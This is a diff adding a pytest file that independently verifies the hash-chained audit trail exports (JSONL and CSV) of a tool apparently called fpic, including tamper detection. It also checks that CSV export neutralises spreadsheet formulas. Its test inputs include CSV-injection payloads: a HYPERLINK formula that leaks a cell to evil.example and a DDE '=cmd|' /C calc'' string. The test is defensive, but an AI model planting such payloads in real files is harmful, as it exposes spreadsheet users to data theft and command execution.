@@ -1,0 +1,466 @@
+"""docs/audit-format.md is enough to verify the trail without fpic.
+
+The verifier here is written from the document alone: json only to parse, hashlib, csv, and its
+own canonical JSON encoder (the escape table and key order of section 3). It must agree with
+what fpic exports for a realistic case, and the document's worked example must still recompute.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import re
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+from sqlalchemy import select
+
+from fpic.accounts import sign_in
+from fpic.cli import main
+from fpic.errors import FpicError
+from fpic.models import ChainHead
+from tests.factories import World, make_world, walk_to
+
+DOC = Path(__file__).resolve().parent.parent / "docs" / "audit-format.md"
+
+GENESIS = "0" * 64
+BODY_FIELDS = ("chain", "seq", "at", "actor", "role", "action", "outcome", "case", "from", "to")
+HEADER = [*BODY_FIELDS, "data", "prev_hash", "hash"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
+TIMESTAMP = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$")
+HEX64 = re.compile(r"^[0-9a-f]{64}$")
+
+# --- the verifier, from the document -----------------------------------------------------------
+
+_SHORT_ESCAPES = {
+    '"': '\\"',
+    "\\": "\\\\",
+    "\b": "\\b",
+    "\t": "\\t",
+    "\n": "\\n",
+    "\f": "\\f",
+    "\r": "\\r",
+}
+
+
+def _string(text: str) -> str:
+    out = []
+    for char in text:
+        if char in _SHORT_ESCAPES:
+            out.append(_SHORT_ESCAPES[char])
+        elif ord(char) < 0x20:
+            out.append(f"\\u{ord(char):04x}")
+        else:
+            out.append(char)
+    return '"' + "".join(out) + '"'
+
+
+def canonical(value: Any) -> str:
+    """Section 3, by hand: no json.dumps, keys ordered by their UTF-8 bytes."""
+    if value is None:
+        return "null"
+    if value is True:
+        return "true"
+    if value is False:
+        return "false"
+    if isinstance(value, int):
+        return str(value)
+    if isinstance(value, str):
+        return _string(value)
+    if isinstance(value, list):
+        return "[" + ",".join(canonical(item) for item in value) + "]"
+    if isinstance(value, dict):
+        keys = sorted(value, key=lambda key: key.encode("utf-8"))
+        return "{" + ",".join(_string(key) + ":" + canonical(value[key]) for key in keys) + "}"
+    raise TypeError(f"not a trail value: {value!r}")
+
+
+def event_hash(prev_hash: str, event: dict[str, Any]) -> str:
+    body = {key: event[key] for key in (*BODY_FIELDS, "data")}
+    return hashlib.sha256(prev_hash.encode("ascii") + canonical(body).encode("utf-8")).hexdigest()
+
+
+def first_break(
+    events: list[dict[str, Any]],
+) -> tuple[dict[str, tuple[int, str]], tuple[str, int] | None]:
+    """(last seq and hash per chain, None) when intact, else the first broken (chain, seq)."""
+    heads: dict[str, tuple[int, str]] = {}
+    broken: list[tuple[str, int]] = []
+    for event in events:
+        chain = event["chain"]
+        if any(chain == c for c, _ in broken):
+            continue
+        seq, prev = heads.get(chain, (0, GENESIS))
+        if (
+            type(event["seq"]) is not int
+            or event["seq"] != seq + 1
+            or event["prev_hash"] != prev
+            or event["hash"] != event_hash(prev, event)
+        ):
+            broken.append((chain, event["seq"]))
+            continue
+        heads[chain] = (event["seq"], event["hash"])
+    order = sorted(broken, key=lambda b: (b[0] != "system", int(b[0].partition(":")[2] or 0)))
+    return heads, (order[0] if order else None)
+
+
+def _no_float(text: str) -> Any:
+    raise AssertionError(f"a float in the trail: {text}")
+
+
+def read_jsonl(text: str) -> list[dict[str, Any]]:
+    assert text.endswith("\n")
+    lines = text.split("\n")[:-1]  # LF only: U+2028 and U+0085 may sit inside a line
+    return [json.loads(line, parse_float=_no_float, parse_constant=_no_float) for line in lines]
+
+
+def unneutralise(cell: str) -> str:
+    return cell[1:] if cell.startswith("'") else cell
+
+
+def read_csv(text: str) -> list[dict[str, Any]]:
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == HEADER
+    events = []
+    for raw in rows[1:]:
+        cells = dict(zip(HEADER, (unneutralise(c) for c in raw), strict=True))
+        events.append(
+            {
+                **cells,
+                "seq": int(cells["seq"]),
+                "case": int(cells["case"]) if cells["case"] else None,
+                "from": cells["from"] or None,
+                "to": cells["to"] or None,
+                "data": json.loads(cells["data"], parse_float=_no_float),
+            }
+        )
+    return events
+
+
+def trail_head(heads: dict[str, tuple[int, str]]) -> str:
+    names = sorted(heads, key=lambda name: [ord(c) for c in name])
+    lines = "".join(f"{name}\t{heads[name][0]}\t{heads[name][1]}\n" for name in names)
+    return hashlib.sha256(lines.encode("utf-8")).hexdigest()
+
+
+# --- a realistic trail ---------------------------------------------------------------------------
+
+#: refused attempts whose names a spreadsheet would run, or that need escaping in JSON
+ODD_TRIGGERS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
+    "+1+1",
+    "-1",
+    "@SUM(A1:A9)",
+    "\tcmd",
+    "'quoted",
+    "\rreturn",
+    "esc\x1b del\x7f nel\x85 ls\u2028 ps\u2029 slash/ back\\slash",
+]
+#: names typed at a failed sign-in: they become the actor of a system-chain event
+ODD_SIGN_INS = ["=cmd|' /C calc'!A0", "", "Mamani\rRosa", "ñandú\u2028ave 🐦"]
+REPORT_EQ = '=SUM(A1) caudal «Ñawpa Yaku»: "normal" \\ ok\tcol\r\nqhipa — 🗓'
+REPORT_MINUS = "-3 pozos secos; +2 nuevos @ Qollana"
+
+
+def _refused(action: Any) -> None:
+    with pytest.raises(FpicError):
+        action()
+
+
+def build_trail(world: World) -> int:
+    community = world.add_community("ayllu-nawpa-yaku", ["qu", "es"])
+    case_id = world.open_case(community)
+    walk_to(world, case_id, "monitoring", community)
+    rep = community.rep_actors[0]
+    world.clock.advance(days=90, microseconds=123457)
+    world.act(case_id, "record_monitoring_report", world.liaison, {"text": REPORT_EQ})
+    world.act(case_id, "record_monitoring_report", rep, {"text": REPORT_MINUS, "language": "es"})
+    for name in ODD_TRIGGERS:
+        _refused(lambda name=name: world.act(case_id, name, world.liaison))
+    _refused(lambda: world.act(case_id, "close_case", world.liaison, {"text": "Cerrado."}))
+    _refused(lambda: world.engine.advance(999, "close_case", rep, None, 1))
+    for typed in ODD_SIGN_INS:
+        _refused(lambda typed=typed: sign_in(world.engine, typed, "not the password"))
+    return case_id
+
+
+@pytest.fixture(scope="module")
+def trail(tmp_path_factory) -> Iterator[tuple[World, int]]:
+    world = make_world(f"sqlite:///{tmp_path_factory.mktemp('format') / 'fpic.sqlite3'}")
+    case_id = build_trail(world)
+    yield world, case_id
+    world.db.dispose()
+
+
+def cli(world: World, *args: str):
+    return CliRunner().invoke(main, ["--database-url", world.db.url, *args])
+
+
+def export(world: World, tmp_path: Path, fmt: str, *extra: str) -> str:
+    out = tmp_path / f"trail.{fmt}"
+    result = cli(world, "audit", "export", "--format", fmt, "-o", str(out), *extra)
+    assert result.exit_code == 0, result.output
+    return out.read_bytes().decode("utf-8")
+
+
+def recorded_heads(world: World) -> dict[str, tuple[int, str]]:
+    with world.db.read_session() as session:
+        return {h.chain: (h.seq, h.hash) for h in session.scalars(select(ChainHead))}
+
+
+# --- the realistic trail against the document ---------------------------------------------------
+
+
+def test_jsonl_export_is_canonical_and_verifies_independently(trail, tmp_path):
+    world, case_id = trail
+    text = export(world, tmp_path, "jsonl")
+    assert not text.startswith("\ufeff")
+    assert "\r" not in text
+    events = read_jsonl(text)
+    for line, event in zip(text.split("\n")[:-1], events, strict=True):
+        assert line == canonical(event)  # byte for byte what section 5 says
+        assert list(event) == sorted(HEADER)
+        assert TIMESTAMP.match(event["at"]), event["at"]
+        assert HEX64.match(event["hash"])
+        assert HEX64.match(event["prev_hash"])
+        assert isinstance(event["data"], dict)
+        assert event["outcome"] in ("done", "refused")
+        if event["chain"] == "system":
+            assert (event["case"], event["from"], event["to"]) == (None, None, None)
+        else:
+            assert event["chain"] == f"case:{event['case']}"
+    heads, broken = first_break(events)
+    assert broken is None
+    assert heads == recorded_heads(world)
+    assert len(events) > 60
+    # what makes this trail worth checking is really in it
+    for needle in ["\\u001b", "\x7f", "\x85", "\u2028", "\u2029", "🐦", "\\r\\n", '\\"', "«Ñawpa"]:
+        assert needle in text, needle
+    actions = {e["action"] for e in events if e["chain"] == f"case:{case_id}"}
+    assert set(ODD_TRIGGERS) <= actions
+    assert {"monitoring"} == {e["to"] for e in events if e["action"] == "record_monitoring_report"}
+
+
+def test_trail_head_recomputes_from_a_full_export(trail, tmp_path):
+    world, _ = trail
+    heads, broken = first_break(read_jsonl(export(world, tmp_path, "jsonl")))
+    assert broken is None
+    result = cli(world, "audit", "head")
+    assert result.exit_code == 0, result.output
+    assert result.output.split()[0] == trail_head(heads)
+
+
+def test_csv_export_reads_back_to_the_same_events_and_verifies(trail, tmp_path):
+    world, _ = trail
+    text = export(world, tmp_path, "csv")
+    assert text.startswith(",".join(HEADER) + "\n")
+    assert not text.startswith("\ufeff")
+    events = read_csv(text)
+    assert events == read_jsonl(export(world, tmp_path, "jsonl"))
+    assert first_break(events)[1] is None
+    raw_rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    raw_cells = [cell for row in raw_rows for cell in row]
+    # no cell a spreadsheet would run; every escaped one is given back exactly
+    assert not [c for c in raw_cells if c.startswith(FORMULA_STARTS[:-1])]
+    for name in [*ODD_TRIGGERS, "=cmd|' /C calc'!A0", "-"]:
+        if name.startswith(FORMULA_STARTS):
+            assert "'" + name in raw_cells, name
+    # text inside data is not touched: the data cell starts with "{"
+    assert json.dumps(REPORT_EQ, ensure_ascii=False)[1:-1] in text.replace('""', '"')
+    assert all(row[10].startswith("{") for row in raw_rows)
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+def test_case_export_is_one_chain_from_genesis(trail, tmp_path, fmt):
+    world, case_id = trail
+    text = export(world, tmp_path, fmt, "--case", str(case_id))
+    events = read_jsonl(text) if fmt == "jsonl" else read_csv(text)
+    assert {e["chain"] for e in events} == {f"case:{case_id}"}
+    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
+    assert events[0]["prev_hash"] == GENESIS
+    heads, broken = first_break(events)
+    assert broken is None
+    assert heads[f"case:{case_id}"] == recorded_heads(world)[f"case:{case_id}"]
+
+
+def _tamper_edit(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
+    events[i]["data"]["payload"]["text"] = "Nothing was said about water."
+    return events, events[i]["seq"]
+
+
+def _tamper_delete(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
+    seq = events[i]["seq"]
+    del events[i]
+    return events, seq + 1
+
+
+def _tamper_swap(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
+    events[i], events[i + 1] = events[i + 1], events[i]
+    return events, events[i]["seq"]
+
+
+def _tamper_insert(events: list[dict[str, Any]], i: int) -> tuple[list[dict[str, Any]], int]:
+    forged = json.loads(json.dumps(events[i]))
+    forged["data"]["payload"]["text"] = "The assembly agreed to everything."
+    forged["hash"] = event_hash(forged["prev_hash"], forged)
+    events.insert(i, forged)
+    return events, events[i + 1]["seq"]
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
+@pytest.mark.parametrize("tamper", [_tamper_edit, _tamper_delete, _tamper_swap, _tamper_insert])
+def test_independent_verifier_and_fpic_name_the_same_break(trail, tmp_path, fmt, tamper):
+    world, case_id = trail
+    events = read_jsonl(export(world, tmp_path, "jsonl"))
+    i = next(n for n, e in enumerate(events) if e["action"] == "record_monitoring_report")
+    events, expected_seq = tamper(events, i)
+    assert first_break(events)[1] == (f"case:{case_id}", expected_seq)
+    path = tmp_path / f"tampered.{fmt}"
+    if fmt == "jsonl":
+        path.write_bytes("".join(canonical(e) + "\n" for e in events).encode("utf-8"))
+    else:
+        buffer = io.StringIO()
+        writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
+        writer.writerow(HEADER)
+        for e in events:
+            cells = [canonical(e[k]) if k == "data" else e[k] for k in HEADER]
+            cells = ["" if c is None else str(c) for c in cells]
+            writer.writerow(["'" + c if c.startswith(FORMULA_STARTS) else c for c in cells])
+        path.write_bytes(buffer.getvalue().encode("utf-8"))
+    written = path.read_bytes().decode("utf-8")
+    reread = read_jsonl(written) if fmt == "jsonl" else read_csv(written)
+    assert first_break(reread)[1] == (f"case:{case_id}", expected_seq)
+    result = cli(world, "audit", "verify", str(path))
+    assert result.exit_code == 1, result.output
+    assert f"chain case:{case_id}, sequence number {expected_seq}:" in result.output
+
+
+def test_the_escape_table_is_what_fpic_writes():
+    """Section 3 against fpic's encoder, for every character class the table names."""
+    from fpic.audit import canonical_json
+
+    samples = [chr(c) for c in range(0x00, 0xA0)]
+    samples += ["\u2028", "\u2029", "\ufeff", "\uffff", "\U0001f5d3", "é", "Ñ", "—", "/", "</"]
+    for char in samples:
+        value = {"k": char, char: [char]}
+        assert canonical(value) == canonical_json(value), repr(char)
+    assert canonical_json("\x1f\x7f") == '"\\u001f\x7f"'
+    assert canonical_json({"\uffff": 1, "\U0001f5d3": 2, "Z": 3, "a": 4, "": 5}) == (
+        '{"":5,"Z":3,"a":4,"\uffff":1,"\U0001f5d3":2}'
+    )
+    assert canonical_json([True, False, None, -7, 0, 10**20, {}, []]) == (
+        "[true,false,null,-7,0,100000000000000000000,{},[]]"
+    )
+
+
+# --- the worked example and the reference verifier in the document ----------------------------
+
+
+def doc_block(label: str) -> str:
+    found = re.findall(
+        rf"^```[\w-]* {re.escape(label)}\n(.*?)\n```$", DOC.read_text("utf-8"), re.M | re.S
+    )
+    assert len(found) == 1, f"docs/audit-format.md needs exactly one block labelled {label}"
+    return found[0]
+
+
+def test_worked_example_recomputes():
+    lines = doc_block("example-export").split("\n")
+    events = [json.loads(line) for line in lines]
+    assert [canonical(e) for e in events] == lines
+    body = doc_block("example-body")
+    second = events[1]
+    assert body == canonical({k: second[k] for k in (*BODY_FIELDS, "data")})
+    prev_hash = doc_block("example-prev-hash")
+    assert prev_hash == events[0]["hash"] == second["prev_hash"]
+    digest = hashlib.sha256(prev_hash.encode("ascii") + body.encode("utf-8")).hexdigest()
+    assert digest == doc_block("example-hash") == second["hash"]
+    assert events[0]["prev_hash"] == GENESIS
+    assert events[0]["hash"] == event_hash(GENESIS, events[0])
+    assert first_break(events)[1] is None
+    # the non-ASCII characters the text names, raw, and the escapes it names
+    assert all(char in body for char in ("Ñ", "—", "\U0001f5d3", '\\"', "\\n"))
+
+
+def test_worked_example_csv_is_the_same_events():
+    csv_text = doc_block("example-csv") + "\n"
+    events = read_csv(csv_text)
+    assert events == [json.loads(line) for line in doc_block("example-export").split("\n")]
+
+
+def test_worked_example_trail_head_recomputes():
+    heads = {}
+    for line in doc_block("example-heads").split("\n"):
+        chain, seq, digest = line.split()
+        heads[chain] = (int(seq), digest)
+    last = json.loads(doc_block("example-export").split("\n")[-1])
+    assert heads[last["chain"]] == (last["seq"], last["hash"])
+    digest, counts = doc_block("example-trail-head").split("  ")
+    assert digest == trail_head(heads)
+    assert counts == f"({len(heads)} chains, {sum(s for s, _ in heads.values())} events)"
+
+
+def test_worked_example_csv_header_is_what_fpic_writes(trail, tmp_path):
+    world, _ = trail
+    header = doc_block("example-csv").split("\n")[0]
+    assert export(world, tmp_path, "csv").split("\n")[0] == header == ",".join(HEADER)
+
+
+@pytest.fixture(scope="module")
+def reference() -> dict[str, Any]:
+    namespace: dict[str, Any] = {"__name__": "reference_verifier"}
+    exec(compile(doc_block("reference-verifier"), str(DOC), "exec"), namespace)
+    return namespace
+
+
+def test_reference_verifier_checks_the_example_and_a_real_export(reference, trail, tmp_path):
+    assert reference["verify"](doc_block("example-export").split("\n"))[1] is None
+    world, case_id = trail
+    text = export(world, tmp_path, "jsonl")
+    heads, broken = reference["verify"](text.split("\n"))
+    assert broken is None
+    assert heads == recorded_heads(world)
+    assert reference["trail_head"](heads) == cli(world, "audit", "head").output.split()[0]
+    events = read_jsonl(text)
+    events, seq = _tamper_edit(
+        events, next(n for n, e in enumerate(events) if e["action"] == "record_monitoring_report")
+    )
+    _, broken = reference["verify"]([canonical(e) for e in events])
+    assert broken[:2] == (f"case:{case_id}", seq)
+    assert "hash" in broken[2]
+
+
+def test_reference_verifier_runs_as_a_script(trail, tmp_path):
+    world, _ = trail
+    script = tmp_path / "verify.py"
+    script.write_text(doc_block("reference-verifier") + "\n", encoding="utf-8")
+    export(world, tmp_path, "jsonl")
+    good = subprocess.run(
+        [sys.executable, str(script), str(tmp_path / "trail.jsonl")],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert good.returncode == 0, good.stderr
+    assert good.stdout.startswith("Intact:")
+    assert cli(world, "audit", "head").output.split()[0] in good.stdout
+    lines = (tmp_path / "trail.jsonl").read_bytes().decode("utf-8").split("\n")
+    removed = json.loads(lines.pop(3))
+    (tmp_path / "bad.jsonl").write_bytes("\n".join(lines).encode("utf-8"))
+    bad = subprocess.run(
+        [sys.executable, str(script), str(tmp_path / "bad.jsonl")],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert bad.returncode == 1
+    assert "BROKEN: chain" in bad.stderr
+    assert f"BROKEN: chain {removed['chain']}, sequence number {removed['seq'] + 1}:" in bad.stderr
+    assert f"expected sequence number {removed['seq']}" in bad.stderr
